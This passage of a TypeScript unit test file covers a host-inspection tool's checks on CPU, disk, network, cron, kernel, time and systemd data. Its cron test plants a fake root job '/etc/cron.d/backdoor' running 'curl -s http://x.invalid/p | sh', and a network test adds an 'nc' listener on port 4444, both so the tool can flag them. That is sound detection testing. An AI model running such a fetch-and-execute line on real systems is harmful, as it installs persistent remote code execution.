/**
 * Host checks judged on section data recorded from the real collection module (localhost, and a
 * systemd-nspawn container for systemd), changed per test to make each check fire or stay quiet.
 * The integration tests (test/integration/host-inspection*.test.ts) do the same on real hosts.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { CheckCatalog } from '../../src/inspections/check-catalog.js';
import { hostChecks } from '../../src/inspections/checks/host/index.js';
import { evaluateChecks } from '../../src/inspections/evaluate-checks.js';
import { inspectionConfigSchema } from '../../src/inspections/config/inspection-config.js';
import type { FindingHistory, PreviousFinding } from '../../src/inspections/history.js';
import type { SectionEnvelope } from '../../src/inspections/measurement.js';
import type { FindingInput } from '../../src/findings/finding.js';
import { meets, kernelParamsProfile, KUBEEYE_SYSCTL_PROFILE } from '../../src/inspections/checks/host/kernel-params.js';
import { hostModuleRequest } from '../../src/inspections/collectors/host/host-params.js';

const recorded = JSON.parse(readFileSync(join(import.meta.dirname, '..', 'fixtures', 'host', 'sections-recorded.json'), 'utf8')) as { sections: Record<string, SectionEnvelope & { data: any }> };
const catalog = new CheckCatalog().register(...hostChecks);
const NOW = Date.UTC(2026, 10, 22, 8, 0, 0);
const DAY = 86_400_000;

type Data = Record<string, any>;
type Patch = Partial<Record<string, (d: Data) => void>>;

function sections(patch: Patch = {}): Record<string, SectionEnvelope> {
  const out: Record<string, SectionEnvelope> = JSON.parse(JSON.stringify(recorded.sections));
  for (const [name, fn] of Object.entries(patch)) fn!(out[name]!.data as Data);
  return out;
}

function config(spec: Record<string, unknown> = {}) {
  return inspectionConfigSchema.parse({ apiVersion: 'patrol.dev/v1', kind: 'InspectionConfig', metadata: { name: 'unit' }, spec });
}

function history(prev: Record<string, Partial<PreviousFinding>> = {}, values: Record<string, { at: number; value: number }[]> = {}): FindingHistory {
  return {
    values: async (check, target) => (values[`${check} ${target}`] ?? []).map((v) => ({ ...v, runId: 'r' })),
    last: async (check, target) => (prev[`${check} ${target}`] ? ({ at: NOW - DAY, runId: 'r0', severity: 'ok', value: null, details: null, ...prev[`${check} ${target}`] } as PreviousFinding) : undefined),
  };
}

async function judge(opts: { patch?: Patch; spec?: Record<string, unknown>; prev?: Record<string, Partial<PreviousFinding>>; values?: Record<string, { at: number; value: number }[]>; sections?: Record<string, SectionEnvelope>; groups?: string[] } = {}): Promise<FindingInput[]> {
  return evaluateChecks({
    catalog,
    config: config(opts.spec),
    measurements: [{ collector: 'host', target: { name: 'web-1', groups: opts.groups ?? ['web'] }, sections: opts.sections ?? sections(opts.patch) }],
    history: history(opts.prev, opts.values),
    now: NOW,
  });
}

const of = (fs: FindingInput[], check: string, target = 'web-1') => {
  const f = fs.find((x) => x.check === check && x.target === target);
  if (!f) throw new Error(`no ${check} finding for ${target}; have: ${fs.filter((x) => x.check === check).map((x) => x.target).join(', ') || 'none'}`);
  return f;
};

describe('recorded data, default settings', () => {
  test('every host check yields findings, none with an unexpected error', async () => {
    const fs = await judge();
    for (const c of hostChecks) expect([c.id, fs.some((f) => f.check === c.id)]).toEqual([c.id, true]);
    const errors = fs.filter((f) => f.severity === 'error').map((f) => `${f.check}: ${f.message}`);
    // No NTP daemon and no servers configured on the recording machine: the offset cannot be measured.
    expect(errors).toEqual(['host.time.offset: nothing to measure the clock against: no NTP daemon reports an offset (running: none); set `servers` on host.time.offset to measure with SNTP']);
  });
});

describe('cpu and memory', () => {
  test('host.cpu.usage fires at 90 % / 95 % and stays quiet below', async () => {
    expect(of(await judge({ patch: { cpu: (d) => (d.usagePercent = 12.5) } }), 'host.cpu.usage').severity).toBe('ok');
    expect(of(await judge({ patch: { cpu: (d) => (d.usagePercent = 91) } }), 'host.cpu.usage').severity).toBe('warning');
    const f = of(await judge({ patch: { cpu: (d) => Object.assign(d, { usagePercent: 99.5, stealPercent: 30 }) } }), 'host.cpu.usage');
    expect(f).toMatchObject({ severity: 'critical', value: 99.5, unit: '%', threshold: { warning: 90, critical: 95 } });
    expect(f.message).toContain('steal 30%');
  });

  test('host.cpu.load_per_core divides by CPUs, uses the configured average', async () => {
    const quiet = of(await judge({ patch: { cpu: (d) => Object.assign(d, { cpus: 8, load1: 20, load5: 12, load15: 4 }) } }), 'host.cpu.load_per_core');
    expect(quiet).toMatchObject({ severity: 'ok', value: 1.5 });
    const fired = of(await judge({ patch: { cpu: (d) => Object.assign(d, { cpus: 8, load1: 20, load5: 12, load15: 4 }) }, spec: { checks: { 'host.cpu.load_per_core': { average: 1 } } } }), 'host.cpu.load_per_core');
    expect(fired).toMatchObject({ severity: 'warning', value: 2.5 });
    expect(of(await judge({ patch: { cpu: (d) => Object.assign(d, { cpus: 2, load5: 9 }) } }), 'host.cpu.load_per_core').severity).toBe('critical');
    const bad = of(await judge({ spec: { checks: { 'host.cpu.load_per_core': { average: 10 } } } }), 'host.cpu.load_per_core');
    expect(bad.severity).toBe('error');
    expect(bad.message).toContain('"average" must be 1, 5 or 15');
  });

  test('host.memory.usage uses MemAvailable and names the largest processes', async () => {
    expect(of(await judge(), 'host.memory.usage').severity).toBe('ok');
    const f = of(await judge({ patch: { memory: (d) => Object.assign(d, { usedPercent: 96.2, availableBytes: d.totalBytes * 0.038 }) } }), 'host.memory.usage');
    expect(f.severity).toBe('critical');
    expect(f.message).toMatch(/memory 96\.2% used .* largest: /);
  });

  test('host.swap.usage: no swap is ok, a full swap fires', async () => {
    const none = of(await judge(), 'host.swap.usage');
    expect(none).toMatchObject({ severity: 'ok', message: 'no swap configured' });
    const gib = 1024 ** 3;
    expect(of(await judge({ patch: { memory: (d) => Object.assign(d, { swapTotalBytes: 2 * gib, swapFreeBytes: 0.5 * gib, swapUsedPercent: 75 }) } }), 'host.swap.usage').severity).toBe('ok');
    expect(of(await judge({ patch: { memory: (d) => Object.assign(d, { swapTotalBytes: 2 * gib, swapFreeBytes: 0.3 * gib, swapUsedPercent: 85 }) } }), 'host.swap.usage').severity).toBe('warning');
  });
});

describe('disk usage, inodes and fill forecast', () => {
  test('usage and inodes fire at 80 / 90 %; a mount that could not be measured is an error', async () => {
    expect(of(await judge(), 'host.disk.usage', 'web-1:/').severity).toBe('ok');
    const fs = await judge({ patch: { disks: (d) => { Object.assign(d.mounts[0], { usedPercent: 93.4, inodesUsedPercent: 85 }); d.failed.push({ mount: '/mnt/nfs', fstype: 'nfs4', error: 'timed out after 5s (hung mount?)' }); } } });
    expect(of(fs, 'host.disk.usage', 'web-1:/')).toMatchObject({ severity: 'critical', value: 93.4 });
    expect(of(fs, 'host.disk.inodes', 'web-1:/').severity).toBe('warning');
    expect(of(fs, 'host.disk.usage', 'web-1:/mnt/nfs')).toMatchObject({ severity: 'error', message: expect.stringContaining('hung mount') });
  });
  test('fill forecast: quiet without history or growth, fires when the trend fills the disk within 24 h', async () => {
    expect(of(await judge(), 'host.disk.fill_forecast', 'web-1:/').message).toContain('not enough history');
    const h = (slopePerHour: number) => ({ 'host.disk.usage web-1:/': [6, 4, 2].map((hoursAgo) => ({ at: NOW - hoursAgo * 3_600_000, value: 60 - slopePerHour * hoursAgo })) });
    const flat = of(await judge({ values: h(0), patch: { disks: (d) => (d.mounts[0].usedPercent = 60) } }), 'host.disk.fill_forecast', 'web-1:/');
    expect(flat.severity).toBe('ok');
    const fast = of(await judge({ values: h(2), patch: { disks: (d) => (d.mounts[0].usedPercent = 60) } }), 'host.disk.fill_forecast', 'web-1:/');
    expect(fast.severity).toBe('critical');
    expect(fast.value).toBe(20);
  });
});

describe('disk IO', () => {
  const dev = (over: Data) => ({ device: 'sdb', utilPercent: 5, avgQueue: 0.1, awaitMs: 2, readAwaitMs: 2, writeAwaitMs: null, readsPerSec: 10, writesPerSec: 0, readBytesPerSec: 40960, writeBytesPerSec: 0, inFlight: 0, ios: 10, ...over });
  test('utilization, saturation and await fire per device, quiet on an idle one', async () => {
    const fs = await judge({ patch: { io: (d) => (d.devices = [dev({}), dev({ device: 'sdc', utilPercent: 99.6, avgQueue: 14.2, awaitMs: 230.5, writeAwaitMs: 230.5, ios: 40 })]) } });
    expect(of(fs, 'host.disk.io_utilization', 'web-1:sdb').severity).toBe('ok');
    expect(of(fs, 'host.disk.io_saturation', 'web-1:sdb').severity).toBe('ok');
    expect(of(fs, 'host.disk.io_await', 'web-1:sdb').severity).toBe('ok');
    expect(of(fs, 'host.disk.io_utilization', 'web-1:sdc')).toMatchObject({ severity: 'critical', value: 99.6 });
    expect(of(fs, 'host.disk.io_saturation', 'web-1:sdc')).toMatchObject({ severity: 'warning', value: 14.2 });
    expect(of(fs, 'host.disk.io_await', 'web-1:sdc')).toMatchObject({ severity: 'warning', value: 230.5, unit: 'ms' });
  });
  test('no IO completed: await has no value and is ok', async () => {
    const f = of(await judge({ patch: { io: (d) => (d.devices = [dev({ awaitMs: null, readAwaitMs: null, ios: 0 })]) } }), 'host.disk.io_await', 'web-1:sdb');
    expect(f.severity).toBe('ok');
    expect(f.value).toBeUndefined();
  });
});

describe('network', () => {
  const iface = (name: string, over: Data = {}) => ({
    name, operstate: 'up', adminUp: true, carrier: true, loopback: false, virtual: false, kind: null, mtu: 1500, speedMbps: 1000,
    totals: { rxPackets: 100000, rxErrors: 0, rxDropped: 0, txPackets: 100000, txErrors: 0, txDropped: 0 },
    window: { rxPackets: 0, rxErrors: 0, rxDropped: 0, txPackets: 0, txErrors: 0, txDropped: 0 },
    ...over,
  });

  test('interface_down: admin-up without link fires, admin-down and empty bridges do not, bonds and required interfaces are judged', async () => {
    const fs = await judge({
      patch: {
        network: (d) => {
          d.interfaces = [iface('eth0'), iface('eth1', { operstate: 'lowerlayerdown', carrier: false }), iface('eth2', { operstate: 'down', adminUp: false, carrier: null }), iface('docker0', { operstate: 'down', carrier: false, kind: 'bridge', virtual: true })];
          d.bonds = [{ name: 'bond0', slaves: [{ name: 'eth3', mii: 'up' }, { name: 'eth4', mii: 'down' }] }];
        },
      },
      spec: { checks: { 'host.net.interface_down': { required: ['eth0', 'ib0'] } } },
    });
    expect(of(fs, 'host.net.interface_down', 'web-1:eth0').severity).toBe('ok');
    expect(of(fs, 'host.net.interface_down', 'web-1:eth1')).toMatchObject({ severity: 'warning', value: 'lowerlayerdown' });
    expect(of(fs, 'host.net.interface_down', 'web-1:eth2').severity).toBe('ok');
    expect(of(fs, 'host.net.interface_down', 'web-1:docker0').severity).toBe('ok');
    expect(of(fs, 'host.net.interface_down', 'web-1:bond0:slaves')).toMatchObject({ severity: 'warning', value: '1/2' });
    expect(of(fs, 'host.net.interface_down', 'web-1:ib0').severity).toBe('critical');
  });

  test('errors and drops: window rate when there was traffic, since boot otherwise', async () => {
    const fs = await judge({
      patch: {
        network: (d) =>
          (d.interfaces = [
            iface('eth0'),
            iface('eth1', { window: { rxPackets: 900, rxErrors: 30, rxDropped: 0, txPackets: 100, txErrors: 0, txDropped: 0 } }),
            iface('eth2', { totals: { rxPackets: 1000, rxErrors: 0, rxDropped: 80, txPackets: 0, txErrors: 0, txDropped: 0 } }),
          ]),
      },
    });
    expect(of(fs, 'host.net.errors', 'web-1:eth0').severity).toBe('ok');
    expect(of(fs, 'host.net.drops', 'web-1:eth0').severity).toBe('ok');
    const e = of(fs, 'host.net.errors', 'web-1:eth1');
    expect(e).toMatchObject({ severity: 'warning', value: 3 });
    expect(e.message).toContain('in the last');
    const dr = of(fs, 'host.net.drops', 'web-1:eth2');
    expect(dr).toMatchObject({ severity: 'critical', value: 8 });
    expect(dr.message).toContain('since boot');
  });

  test('listening_ports: baseline, unchanged, new port, allowed list', async () => {
    const first = of(await judge(), 'host.net.listening_ports');
    expect(first.severity).toBe('ok');
    expect(first.message).toContain('first run');
    const ports = (first.details as { ports: string[] }).ports;
    expect(ports).toEqual(['tcp 0.0.0.0:2024']);
    const same = of(await judge({ prev: { 'host.net.listening_ports web-1': { details: { ports } } } }), 'host.net.listening_ports');
    expect(same.severity).toBe('ok');
    expect(same.message).toContain('unchanged');
    const added = of(
      await judge({
        patch: { network: (d) => d.listening.push({ proto: 'tcp', address: '0.0.0.0', port: 4444, process: 'nc' }, { proto: 'tcp', address: '127.0.0.1', port: 5555, process: 'x' }, { proto: 'udp', address: '0.0.0.0', port: 40001, process: 'client' }) },
        prev: { 'host.net.listening_ports web-1': { details: { ports } } },
      }),
      'host.net.listening_ports',
    );
    expect(added.severity).toBe('warning');
    expect(added.message).toContain('new since the last run: tcp 0.0.0.0:4444 (nc)');
    expect(added.message).not.toContain('5555');
    expect(added.message).not.toContain('40001');
    const notAllowed = of(await judge({ spec: { checks: { 'host.net.listening_ports': { allowed: ['22', 'udp/123'] } } } }), 'host.net.listening_ports');
    expect(notAllowed.severity).toBe('warning');
    expect(notAllowed.message).toContain('not in allowed: tcp 0.0.0.0:2024');
    expect(of(await judge({ spec: { checks: { 'host.net.listening_ports': { allowed: ['2000-3000'] } } } }), 'host.net.listening_ports').severity).toBe('ok');
  });

  test('conntrack: fill against max; no table is ok', async () => {
    expect(of(await judge(), 'host.net.conntrack').severity).toBe('ok');
    expect(of(await judge({ patch: { network: (d) => (d.conntrack = { count: 200000, max: 262144 }) } }), 'host.net.conntrack')).toMatchObject({ severity: 'warning', value: 76.29 });
    expect(of(await judge({ patch: { network: (d) => (d.conntrack = { count: 260000, max: 262144 }) } }), 'host.net.conntrack').severity).toBe('critical');
    expect(of(await judge({ patch: { network: (d) => (d.conntrack = null) } }), 'host.net.conntrack').message).toContain('not in use');
  });
});

describe('cron', () => {
  test('jobs: baseline, unchanged, a job added is flagged with the line', async () => {
    const first = of(await judge(), 'host.cron.jobs');
    expect(first.severity).toBe('ok');
    const details = first.details as { jobs: string[]; files: Record<string, string> };
    expect(of(await judge({ prev: { 'host.cron.jobs web-1': { details } } }), 'host.cron.jobs').message).toContain('unchanged');
    const changed = of(
      await judge({
        patch: {
          cron: (d) => {
            d.files.push({ path: '/etc/cron.d/backdoor', sha256: 'ab'.repeat(32) });
            d.jobs.push({ file: '/etc/cron.d/backdoor', line: 2, user: 'root', schedule: '*/5 * * * *', command: 'curl -s http://x.invalid/p | sh' });
            d.jobCount++;
          },
        },
        prev: { 'host.cron.jobs web-1': { details } },
      }),
      'host.cron.jobs',
    );
    expect(changed.severity).toBe('warning');
    expect(changed.message).toContain('added: /etc/cron.d/backdoor: */5 * * * * root curl -s http://x.invalid/p | sh');
    expect(changed.evidence?.raw).toBe('/etc/cron.d/backdoor:2: */5 * * * * root curl -s http://x.invalid/p | sh');
    const removed = of(await judge({ patch: { cron: (d) => (d.jobs = d.jobs.slice(1)) }, prev: { 'host.cron.jobs web-1': { details } } }), 'host.cron.jobs');
    expect(removed.message).toContain('removed: /etc/cron.d/e2scrub_all');
    const touched = of(await judge({ patch: { cron: (d) => (d.files[0].sha256 = '00'.repeat(32)) }, prev: { 'host.cron.jobs web-1': { details } } }), 'host.cron.jobs');
    expect(touched.message).toContain('content changed: /etc/cron.d/e2scrub_all');
  });

  test('daemon: jobs without a cron daemon fire; systemd-guarded lines and orphan run-parts scripts do not count', async () => {
    const fired = of(await judge(), 'host.cron.daemon');
    expect(fired.severity).toBe('warning');
    expect(fired.message).toContain('no cron daemon is running');
    expect(of(await judge({ patch: { cron: (d) => (d.daemon = 'cron') } }), 'host.cron.daemon').severity).toBe('ok');
    const systemdHost = of(await judge({ patch: { cron: (d) => (d.systemd = true) } }), 'host.cron.daemon');
    expect(systemdHost.severity).toBe('ok');
    expect(systemdHost.message).toContain('handled by systemd timers');
  });
});

describe('kernel parameters', () => {
  test('meets(): exact, numeric, comparisons and alternatives', () => {
    expect(meets('1', '1')).toBe(true);
    expect(meets('0', '1')).toBe(false);
    expect(meets('65530', '>=262144')).toBe(false);
    expect(meets('1048576', '>=262144')).toBe(true);
    expect(meets('1048576', '=262144')).toBe(false);
    expect(meets('4096 87380 6291456', '4096 87380 6291456')).toBe(true);
    expect(meets('4096\t87380   6291456', '4096 87380 6291456')).toBe(true);
    expect(meets('2', '1 | 2')).toBe(true);
    expect(meets('0', '!=0')).toBe(false);
  });

  test('default profile is KubeEye\'s list: mismatches warn, matches are ok, each key its own target', async () => {
    const fs = await judge();
    expect(fs.filter((f) => f.check === 'host.kernel.params').map((f) => f.target).sort()).toEqual(Object.keys(KUBEEYE_SYSCTL_PROFILE).map((k) => `web-1:${k}`).sort());
    expect(of(fs, 'host.kernel.params', 'web-1:vm.swappiness')).toMatchObject({ severity: 'warning', value: '60', threshold: '0' });
    expect(of(fs, 'host.kernel.params', 'web-1:net.bridge.bridge-nf-call-iptables').severity).toBe('ok');
  });

  test('profile overridable per group; extra adds, null removes, ignore skips; missing keys', async () => {
    const spec = {
      overrides: [{ match: { groups: ['web'] }, checks: { 'host.kernel.params': { profile: { 'vm.swappiness': 60, 'net.core.somaxconn': '>=1024' }, extra: { 'net.ipv4.tcp_syncookies': { expect: 1, severity: 'critical' }, 'vm.swappiness': null } } } }],
    };
    const s = config(spec);
    const profile = kernelParamsProfile({ enabled: true, ...(s.spec.overrides[0]!.checks['host.kernel.params'] as object) });
    expect([...profile.keys()]).toEqual(['net.core.somaxconn', 'net.ipv4.tcp_syncookies']);
    const fs = await judge({ spec, patch: { sysctl: (d) => (d.values = { 'net.core.somaxconn': '4096', 'net.ipv4.tcp_syncookies': null }) } });
    expect(of(fs, 'host.kernel.params', 'web-1:net.core.somaxconn').severity).toBe('ok');
    expect(of(fs, 'host.kernel.params', 'web-1:net.ipv4.tcp_syncookies')).toMatchObject({ severity: 'warning', value: null });
    const other = await judge({ spec, groups: ['db'] });
    expect(other.filter((f) => f.check === 'host.kernel.params')).toHaveLength(9);
  });

  test('the collector asks the module for exactly the profile keys of each host', () => {
    const spec = { overrides: [{ match: { hosts: ['db-*'] }, checks: { 'host.kernel.params': { profile: { 'vm.swappiness': 1 } } } }] };
    expect(hostModuleRequest(config(spec), { name: 'db-1', groups: [] }).params.sysctl).toEqual({ keys: ['vm.swappiness'] });
    expect(hostModuleRequest(config(spec), { name: 'web-1', groups: [] }).params.sysctl).toEqual({ keys: Object.keys(KUBEEYE_SYSCTL_PROFILE) });
  });

  test('a malformed profile value is an error finding, not silence', async () => {
    const f = of(await judge({ spec: { checks: { 'host.kernel.params': { profile: { 'vm.swappiness': { wrong: 1 } } } } } }), 'host.kernel.params');
    expect(f.severity).toBe('error');
    expect(f.message).toContain('profile.vm.swappiness');
  });
});

describe('time', () => {
  const server = (offsetSeconds: number, over: Data = {}) => ({ server: '10.0.0.1', offsetSeconds, delaySeconds: 0.0004, stratum: 2, leap: 0, ...over });
  test('offset from SNTP servers: median, thresholds on the absolute value, errors when none answered', async () => {
    expect(of(await judge({ patch: { time: (d) => (d.servers = [server(0.0021)]) } }), 'host.time.offset')).toMatchObject({ severity: 'ok', value: 0.0021, unit: 's' });
    const ahead = of(await judge({ patch: { time: (d) => (d.servers = [server(-0.2), server(-0.21, { server: 'b' }), server(5, { server: 'c' })]) } }), 'host.time.offset');
    expect(ahead).toMatchObject({ severity: 'warning', value: -0.2 });
    expect(ahead.message).toContain('ahead of NTP time');
    expect(of(await judge({ patch: { time: (d) => (d.servers = [server(2.5)]) } }), 'host.time.offset').severity).toBe('critical');
    const none = of(await judge({ patch: { time: (d) => (d.servers = [{ server: '10.0.0.1', error: 'timed out' }]) } }), 'host.time.offset');
    expect(none.severity).toBe('error');
    expect(none.message).toContain('no configured NTP server answered: 10.0.0.1: timed out');
  });

  test('offset from chrony when no servers are configured', async () => {
    const f = of(await judge({ patch: { time: (d) => (d.chrony = { refid: 'C0A80001', source: '192.168.0.1', stratum: 3, systemTimeSeconds: 0.000012, lastOffsetSeconds: 0.00001, leap: 'Normal' }) } }), 'host.time.offset');
    expect(f).toMatchObject({ severity: 'ok', value: 0.000012 });
    expect(f.message).toContain('chronyd');
  });

  test('sync: kernel unsynchronised fires; chrony normal, ntpd peer and timedatectl are quiet', async () => {
    const fired = of(await judge(), 'host.time.sync');
    expect(fired.severity).toBe('warning');
    expect(fired.message).toContain('STA_UNSYNC');
    expect(of(await judge({ patch: { time: (d) => (d.chrony = { refid: 'A', source: '10.0.0.1', stratum: 2, systemTimeSeconds: 0, lastOffsetSeconds: 0, leap: 'Normal' }) } }), 'host.time.sync').severity).toBe('ok');
    expect(of(await judge({ patch: { time: (d) => (d.chrony = { refid: '0', source: '', stratum: 0, systemTimeSeconds: 0, lastOffsetSeconds: 0, leap: 'Not synchronised' }) } }), 'host.time.sync').severity).toBe('warning');
    expect(of(await judge({ patch: { time: (d) => (d.ntpd = { source: '10.0.0.2', stratum: 2, offsetSeconds: 0.001 }) } }), 'host.time.sync').severity).toBe('ok');
    expect(of(await judge({ patch: { time: (d) => Object.assign(d, { kernel: null, timedatectl: { ntp: true, synchronised: true } }) } }), 'host.time.sync').severity).toBe('ok');
    expect(of(await judge({ patch: { time: (d) => Object.assign(d, { kernel: null, timedatectl: null }) } }), 'host.time.sync').severity).toBe('error');
  });
});

describe('systemd (data recorded from a real systemd in a container)', () => {
  test('failed_units: the failed unit fires; none failed is one ok finding', async () => {
    const fs = await judge();
    expect(of(fs, 'host.systemd.failed_units', 'web-1:patrol-fail.service')).toMatchObject({ severity: 'warning', value: 'failed' });
    const quiet = await judge({ patch: { systemd: (d) => Object.assign(d, { failed: [], state: 'running' }) } });
    expect(of(quiet, 'host.systemd.failed_units')).toMatchObject({ severity: 'ok', message: 'no failed units (system state: running)' });
    expect(of(await judge({ spec: { checks: { 'host.systemd.failed_units': { ignore: ['patrol-*'] } } } }), 'host.systemd.failed_units').severity).toBe('ok');
  });

  test('boot_services: enabled and failed fires; oneshot done, running, triggered and condition-skipped are quiet; expected missing is critical', async () => {
    const fs = await judge({
      patch: {
        systemd: (d) =>
          d.services.push(
            { unit: 'fstrim.service', type: 'oneshot', load: 'loaded', active: 'inactive', sub: 'dead', result: 'success', unitFileState: 'static', restarts: 0, exitStatus: 0, conditionResult: true, description: '', triggeredBy: ['fstrim.timer'], expected: false },
            { unit: 'cups.service', type: 'notify', load: 'loaded', active: 'inactive', sub: 'dead', result: 'success', unitFileState: 'enabled', restarts: 0, exitStatus: 0, conditionResult: true, description: '', triggeredBy: ['cups.socket'], expected: false },
            { unit: 'vboxadd.service', type: 'simple', load: 'loaded', active: 'inactive', sub: 'dead', result: 'success', unitFileState: 'enabled', restarts: 0, exitStatus: 0, conditionResult: false, description: '', triggeredBy: [], expected: false },
            { unit: 'kubelet.service', type: 'simple', load: 'not-found', active: 'inactive', sub: 'dead', result: 'success', unitFileState: '', restarts: 0, exitStatus: 0, conditionResult: true, description: '', triggeredBy: [], expected: true },
            { unit: 'flappy.service', type: 'simple', load: 'loaded', active: 'active', sub: 'running', result: 'success', unitFileState: 'enabled', restarts: 7, exitStatus: 0, conditionResult: true, description: '', triggeredBy: [], expected: false },
          ),
      },
    });
    expect(of(fs, 'host.systemd.boot_services', 'web-1:patrol-fail.service')).toMatchObject({ severity: 'warning', value: 'failed' });
    expect(of(fs, 'host.systemd.boot_services', 'web-1:patrol-oneshot.service').severity).toBe('ok');
    expect(of(fs, 'host.systemd.boot_services', 'web-1:patrol-sshd.service').severity).toBe('ok');
    expect(of(fs, 'host.systemd.boot_services', 'web-1:cups.service').severity).toBe('ok');
    expect(of(fs, 'host.systemd.boot_services', 'web-1:vboxadd.service').severity).toBe('ok');
    expect(of(fs, 'host.systemd.boot_services', 'web-1:kubelet.service').severity).toBe('critical');
    expect(of(fs, 'host.systemd.boot_services', 'web-1:flappy.service').message).toContain('restarted it 7 times');
  });

  test('boot_services: a main process killed by a signal is named as a signal, not as an exit status', async () => {
    const fs = await judge({
      patch: {
        systemd: (d) =>
          d.services.push({ unit: 'killed.service', type: 'simple', load: 'loaded', active: 'failed', sub: 'failed', result: 'signal', unitFileState: 'enabled', restarts: 0, exitStatus: null, signal: 'SIGKILL', conditionResult: true, description: '', triggeredBy: [], expected: false }),
      },
    });
    const f = of(fs, 'host.systemd.boot_services', 'web-1:killed.service');
    expect(f).toMatchObject({ severity: 'warning', message: expect.stringContaining('(failed/failed, result signal, killed by SIGKILL)') });
    expect(f.message).not.toContain('exit status');
  });

  test('no systemd: the section error makes both checks error, never ok', async () => {
    const s = sections();
    s.systemd = { ok: false, error: 'systemd is not running on this host (PID 1 is process_api)' };
    const fs = await judge({ sections: s });
    for (const id of ['host.systemd.failed_units', 'host.systemd.boot_services']) {
      expect(of(fs, id)).toMatchObject({ severity: 'error', message: expect.stringContaining('systemd is not running on this host') });
    }
  });
});

describe('processes', () => {
  const z = (pid: number, comm: string, ppid: number, parent: string) => ({ pid, comm, ppid, parent });
  test('zombies and D state: counts, parents and wait channels', async () => {
    const quiet = await judge();
    expect(of(quiet, 'host.proc.zombies').severity).toBe('ok');
    expect(of(quiet, 'host.proc.dstate').severity).toBe('ok');
    const fs = await judge({
      patch: {
        processes: (d) => {
          d.zombies = [z(100, 'worker', 50, 'gunicorn'), z(101, 'worker', 50, 'gunicorn')];
          d.zombieCount = 2;
          d.dstate = [{ ...z(200, 'df', 1, 'systemd'), wchan: 'rpc_wait_bit_killable' }];
          d.dstateCount = 1;
        },
      },
    });
    const zf = of(fs, 'host.proc.zombies');
    expect(zf).toMatchObject({ severity: 'warning', value: 2 });
    expect(zf.message).toContain('gunicorn[50] x2');
    const df = of(fs, 'host.proc.dstate');
    expect(df).toMatchObject({ severity: 'warning', value: 1 });
    expect(df.message).toContain('rpc_wait_bit_killable');
    const ignored = await judge({ spec: { checks: { 'host.proc.zombies': { ignore: ['work*'] } } }, patch: { processes: (d) => Object.assign(d, { zombies: [z(100, 'worker', 50, 'gunicorn')], zombieCount: 1 }) } });
    expect(of(ignored, 'host.proc.zombies').severity).toBe('ok');
  });

  test('fd usage: system table and per process against its own limit', async () => {
    const quiet = await judge();
    expect(quiet.filter((f) => f.check === 'host.fd.usage').every((f) => f.severity === 'ok')).toBe(true);
    const fs = await judge({
      patch: {
        processes: (d) => {
          d.fd = { allocated: 950000, max: 1000000 };
          d.fdTop = [{ comm: 'java', pid: 4242, fds: 60000, limit: 65536, percent: 91.55 }, { comm: 'nginx', pid: 99, fds: 800, limit: 1024, percent: 78.13 }, { comm: 'sshd', pid: 7, fds: 8, limit: 1024, percent: 0.78 }];
        },
      },
    });
    expect(of(fs, 'host.fd.usage')).toMatchObject({ severity: 'critical', value: 95 });
    expect(of(fs, 'host.fd.usage', 'web-1:fd:java')).toMatchObject({ severity: 'critical', value: 91.55 });
    expect(of(fs, 'host.fd.usage', 'web-1:fd:nginx').severity).toBe('warning');
    expect(of(fs, 'host.fd.usage', 'web-1:fd:sshd').severity).toBe('ok');
  });
});

describe('reboot and kernel log', () => {
  test('reboot.required: flag file, needs-restarting, removed kernel', async () => {
    expect(of(await judge(), 'host.reboot.required').severity).toBe('ok');
    const flag = of(await judge({ patch: { reboot: (d) => Object.assign(d, { flagFile: '/var/run/reboot-required', packages: ['linux-image-6.1.0-30-amd64', 'libc6'] }) } }), 'host.reboot.required');
    expect(flag).toMatchObject({ severity: 'warning', value: true });
    expect(flag.message).toContain('linux-image-6.1.0-30-amd64');
    expect(of(await judge({ patch: { reboot: (d) => (d.needsRestarting = { exitCode: 1, output: 'Core libraries or services have been updated since boot-up:\n  * kernel' }) } }), 'host.reboot.required').message).toContain('needs-restarting -r: Core libraries');
    expect(of(await judge({ patch: { reboot: (d) => Object.assign(d, { runningKernel: '6.1.0-28-amd64', installedKernels: ['6.1.0-30-amd64'] }) } }), 'host.reboot.required').message).toContain('not installed any more');
  });

  const ev = (hoursAgo: number, message: string, extra: Data = {}) => ({ at: NOW - hoursAgo * 3_600_000, message, ...extra });
  test('oom_kills: in the window; cgroup kills warn, a system-wide kill is critical; old ones are out of the window', async () => {
    const memcg = ev(2, 'Memory cgroup out of memory: Killed process 17509 (oomapp) total-vm:46652kB', { pid: 17509, process: 'oomapp', memcg: true, constraint: 'CONSTRAINT_MEMCG', cgroup: '/kubepods/pod1' });
    const global = ev(1, 'Out of memory: Killed process 812 (java) total-vm:9000000kB', { pid: 812, process: 'java', memcg: false, constraint: 'CONSTRAINT_NONE' });
    expect(of(await judge(), 'host.kernel.oom_kills').severity).toBe('ok');
    expect(of(await judge({ patch: { kernel_log: (d) => (d.oom = [ev(30, 'Out of memory: Killed process 1 (x)', { pid: 1, process: 'x', memcg: false })]) } }), 'host.kernel.oom_kills').severity).toBe('ok');
    const w = of(await judge({ patch: { kernel_log: (d) => (d.oom = [memcg]) } }), 'host.kernel.oom_kills');
    expect(w).toMatchObject({ severity: 'warning', value: 1 });
    expect(w.message).toContain('oomapp[17509] in /kubepods/pod1');
    expect(w.evidence?.raw).toContain('Memory cgroup out of memory');
    expect(of(await judge({ patch: { kernel_log: (d) => (d.oom = [memcg, global]) } }), 'host.kernel.oom_kills').severity).toBe('critical');
  });

  test('hung_tasks and fs_errors', async () => {
    const quiet = await judge();
    expect(of(quiet, 'host.kernel.hung_tasks').severity).toBe('ok');
    expect(of(quiet, 'host.kernel.fs_errors').severity).toBe('ok');
    const h = of(await judge({ patch: { kernel_log: (d) => (d.hung = [ev(3, 'INFO: task jbd2/sda1-8:412 blocked for more than 120 seconds.', { process: 'jbd2/sda1-8', pid: 412, seconds: 120 })]) } }), 'host.kernel.hung_tasks');
    expect(h).toMatchObject({ severity: 'warning', value: 1 });
    expect(h.message).toContain('jbd2/sda1-8:412 blocked for more than 120 s');
    const fsErr = of(await judge({ patch: { kernel_log: (d) => (d.fs = [ev(1, 'EXT4-fs error (device loop0): htree_dirblock_to_tree:1051: inode #12: comm ls: Directory block failed checksum')]) } }), 'host.kernel.fs_errors');
    expect(fsErr.severity).toBe('warning');
    const ro = of(await judge({ patch: { kernel_log: (d) => (d.fs = [ev(1, 'EXT4-fs error (device loop0): x'), ev(1, 'EXT4-fs (loop0): Remounting filesystem read-only')]) } }), 'host.kernel.fs_errors');
